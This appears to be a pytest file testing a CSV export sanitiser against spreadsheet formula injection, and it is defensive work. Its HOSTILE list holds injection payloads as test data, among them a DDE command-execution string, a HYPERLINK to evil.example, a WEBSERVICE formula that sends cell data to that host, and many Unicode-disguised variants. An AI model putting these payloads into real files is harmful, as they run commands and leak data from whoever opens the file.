"""No cell that a person's words fill can become a formula."""

import csv
import io

import pytest

from data.exports.safe import csv_text, opens_formula, tidy

HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060=1+1",
    "\u00ad=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\ue000=1+1",
    '"=1+1',
    '""=1+1',
    "'=1+1",
    "Court;=1+1",
    'Court;"=1+1"',
    'Court"";=1+1',
    "Court;\u200b@SUM(A1)",
    "Court\t=1+1",
    "Court\n=1+1",
    "{=1+1}".removeprefix("{"),
)
OPENERS = "=+-@＝＋－＠﹢﹣﹦﹫"


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_no_program_finds_a_formula_whatever_it_splits_on(text: str, delimiter: str) -> None:
    sheet = io.StringIO()
    csv.writer(sheet, quoting=csv.QUOTE_ALL).writerow(["first", csv_text(text), "last"])
    rows = list(csv.reader(io.StringIO(sheet.getvalue()), delimiter=delimiter))
    for row in rows:
        for cell in row:
            assert not cell.strip(" \t\r\n\u00a0").startswith(tuple(OPENERS)), cell


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_a_safe_cell_is_one_line_of_seen_characters(text: str) -> None:
    assert csv_text(text).isprintable()


@pytest.mark.parametrize(
    "text", ["Courts and legal partners", "Niñez – 5 de 7", "A = B", "1-2 years", "a; b", ""]
)
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert csv_text(text) == text


def test_a_formula_is_known_behind_what_nobody_sees() -> None:
    assert opens_formula("\u200b\u2060 =1")
    assert not opens_formula("one = 1")
    assert not opens_formula("\u200b")


def test_line_breaks_become_spaces_and_invisible_signs_go() -> None:
    assert tidy("a\r\nb\u200bc\x07d\u2028e") == "a  bcd e"
